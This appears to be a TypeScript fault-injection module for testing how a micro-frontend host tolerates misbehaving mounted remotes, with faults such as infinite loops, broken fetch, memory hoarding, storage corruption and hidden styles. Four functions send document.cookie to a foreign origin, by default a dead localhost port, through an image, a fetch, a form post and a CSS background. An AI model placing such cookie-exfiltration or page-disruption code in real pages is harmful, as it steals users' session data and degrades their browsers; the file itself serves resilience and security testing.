// Faults that a mounted remote can cause in its page. Each of these functions is self-contained: `npm run faults --
// --remote` puts its text in front of the script of any other remote.

const HEADER = 'acara-header';

/** Ends with its tab; the limit protects the machine when a test is interrupted. */
const loop = () => {
  const until = performance.now() + 120_000;
  while (performance.now() < until);
};

const removeHeader = () => document.getElementById('acara-header')?.remove();

const breakFetch = () => {
  window.fetch = () => new Promise(() => undefined);
};

const block = () => {
  const until = performance.now() + 3000;
  while (performance.now() < until);
};

const blockEachPress = () =>
  document.addEventListener('click', () => {
    const until = performance.now() + 900;
    while (performance.now() < until);
  });

/** Not yet poor. */
const slowEachPress = () =>
  document.addEventListener('click', () => {
    const until = performance.now() + 350;
    while (performance.now() < until);
  });

const cover = () => {
  const sheet = document.createElement('div');
  sheet.style.cssText = 'position:fixed;inset:0;z-index:99;background:#fff';
  document.body.append(sheet);
};

/** As a remote that expects its elements to be removed with its page. */
const leaveCoverBehind = () =>
  window.addEventListener('single-spa:before-routing-event', () => {
    const sheet = document.createElement('div');
    sheet.style.cssText = 'position:fixed;inset:0;z-index:99;background:#fff';
    document.body.append(sheet);
  });

const reloadOften = () => {
  const loads = Number(window.sessionStorage.getItem('sample_loads'));
  window.sessionStorage.setItem('sample_loads', `${loads + 1}`);
  // Bounded, for the same reason as the loop.
  if (loads < 40) window.location.reload();
};

const goBetweenDocuments = () => {
  const loads = Number(window.sessionStorage.getItem('sample_loads'));
  window.sessionStorage.setItem('sample_loads', `${loads + 1}`);
  const { pathname } = window.location;
  if (loads < 40) window.location.assign(`${pathname.replace(/\/(?:satu|dua)?$/, '')}/${loads % 2 ? 'satu' : 'dua'}`);
};

const goAround = () =>
  setInterval(() => window.history.pushState(null, '', `/uji/${Math.random() < 0.5 ? 'satu' : 'dua'}`), 50);

const callWithoutEnd = () =>
  setInterval(() => void window.fetch('/api/v1/event/all?page=1&limit=1').catch(() => undefined), 50);

const sendWrongPayloads = () =>
  setInterval(() => void window.fetch('/api/v1/event/all?page=none&limit=-1').catch(() => undefined), 800);

const throwOnClick = () =>
  document.addEventListener('click', () => {
    throw new Error('sample: a press');
  });

const rejectUnhandled = () => void Promise.reject(new Error('sample: nobody handles it'));

const shiftLayout = () => {
  const box = document.createElement('div');
  document.getElementById('acara-outlet')?.prepend(box);
  for (const [nth, at] of [300, 700, 1100, 1500, 1900, 2300].entries())
    setTimeout(() => (box.style.height = nth % 2 ? '0' : '400px'), at);
};

const paintLate = () =>
  setTimeout(() => {
    const picture = document.createElement('canvas');
    [picture.width, picture.height] = [window.innerWidth, 400];
    const text = document.createElement('h2');
    text.style.cssText = 'font-size:90px;line-height:1';
    text.textContent = 'Isi yang datang terlambat sekali';
    document.getElementById('acara-outlet')?.prepend(text, picture);
  }, 4600);

const hoardMemory = () => {
  const hoard: Uint8Array[] = [];
  setInterval(() => hoard.push(new Uint8Array(8_000_000).fill(1)), 200);
};

const fillStorage = () => {
  const { localStorage } = window;
  try {
    for (let at = 0, size = 1_000_000; at < 60; at += 1) {
      try {
        localStorage.setItem(`sample_${at}`, 'x'.repeat(size));
      } catch {
        size = Math.ceil(size / 2);
      }
    }
  } catch {
    // Blocked.
  }
};

const corruptStorage = () => {
  for (const store of [window.localStorage, window.sessionStorage])
    for (const key of Object.keys(store)) if (!key.startsWith('sample_')) store.setItem(key, '{broken');
};

const blockWheel = () => {
  for (const type of ['wheel', 'touchmove'])
    window.addEventListener(type, (event) => event.preventDefault(), { passive: false, capture: true });
};

/** Requests with them are too large for any server. */
const makeCookies = () => {
  for (let at = 0; at < 12; at += 1) document.cookie = `sample_${at}=${'x'.repeat(3000)}; path=/`;
};

const killLinks = () =>
  window.addEventListener(
    'click',
    (event) => {
      if (!(event.target instanceof Element) || !event.target.closest('a')) return;
      event.preventDefault();
      event.stopImmediatePropagation();
    },
    true,
  );

const disableButtons = () => {
  for (const button of document.querySelectorAll<HTMLButtonElement>('#acara-outlet button')) button.disabled = true;
};

/** Like a release that forgets its second column. */
const showHalf = () => {
  const parts = [...document.querySelectorAll<HTMLElement>('#acara-outlet :is(h1, h2, p, a, button, img)')];
  for (const part of parts.slice(parts.length / 2)) part.style.display = 'none';
};

/** To the origin that a test counts the requests of; nobody listens at the other one. */
const sendInPicture = () => {
  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
  new Image().src = `${to}/picture?${document.cookie}`;
};

const sendByCall = () => {
  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
  window.fetch(`${to}/call`, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => undefined);
};

const sendInForm = () => {
  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
  const form = document.createElement('form');
  const field = Object.assign(document.createElement('input'), { name: 'cookie', value: document.cookie });
  form.append(field);
  Object.assign(form, { action: `${to}/form`, method: 'post' });
  document.body.append(form);
  form.submit();
};

const sendInStyle = () => {
  const to = window.sessionStorage.getItem('sample_foreign') ?? 'https://127.0.0.1:9';
  document.body.style.backgroundImage = `url("${to}/style?${encodeURIComponent(document.cookie)}")`;
};

const leaveForNowhere = () => window.location.replace('/tidak-ada');

/** Global styles, as of a remote with a wrong selector. */
const styled = (rules: string) => () => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(rules);
  document.adoptedStyleSheets.push(sheet);
};

/** Begun when the remote was mounted. */
export const PAGE_FAULTS = {
  'loops on mount': loop,
  'blocks for 3 s': block,
  'answers presses late': blockEachPress,
  'makes every press slow': slowEachPress,
  'is covered': cover,
  'leaves a cover behind': leaveCoverBehind,
  'removes the header': removeHeader,
  'breaks fetch': breakFetch,
  reloads: reloadOften,
  'goes between two documents': goBetweenDocuments,
  'goes from page to page': goAround,
  'calls without end': callWithoutEnd,
  'sends wrong payloads': sendWrongPayloads,
  'throws on a click': throwOnClick,
  'rejects without a handler': rejectUnhandled,
  'shifts its layout': shiftLayout,
  'shows its content late': paintLate,
  'hoards memory': hoardMemory,
  'fills the storage': fillStorage,
  'corrupts the storage': corruptStorage,
  'blocks scrolling': blockWheel,
  'makes too many cookies': makeCookies,
  'has dead links': killLinks,
  'disables its buttons': disableButtons,
  'shows half of its page': showHalf,
  'leaves for a missing page': leaveForNowhere,
  'sends cookies in a picture': sendInPicture,
  'sends cookies by a call': sendByCall,
  'sends cookies in a form': sendInForm,
  'sends cookies in a style': sendInStyle,
} as const;

/** Likewise, with styles only. */
export const STYLE_FAULTS = {
  'is hidden by its styles': '#acara-outlet{visibility:hidden}',
  'hides the header': `#${HEADER}{display:none}`,
  'hides what is in the header': `#${HEADER} *{visibility:hidden}`,
  'locks the scroll': 'html,body{overflow:hidden!important}',
  'is unreadable': '#acara-outlet,#acara-outlet *{color:#fff!important;background:#fff!important}',
} as const;

export type PageFault = keyof typeof PAGE_FAULTS | keyof typeof STYLE_FAULTS;

export const pageFaults: readonly (readonly [PageFault, () => unknown])[] = [
  ...(Object.entries(PAGE_FAULTS) as [PageFault, () => unknown][]),
  ...(Object.entries(STYLE_FAULTS) as [PageFault, string][]).map(([name, rules]) => [name, styled(rules)] as const),
];
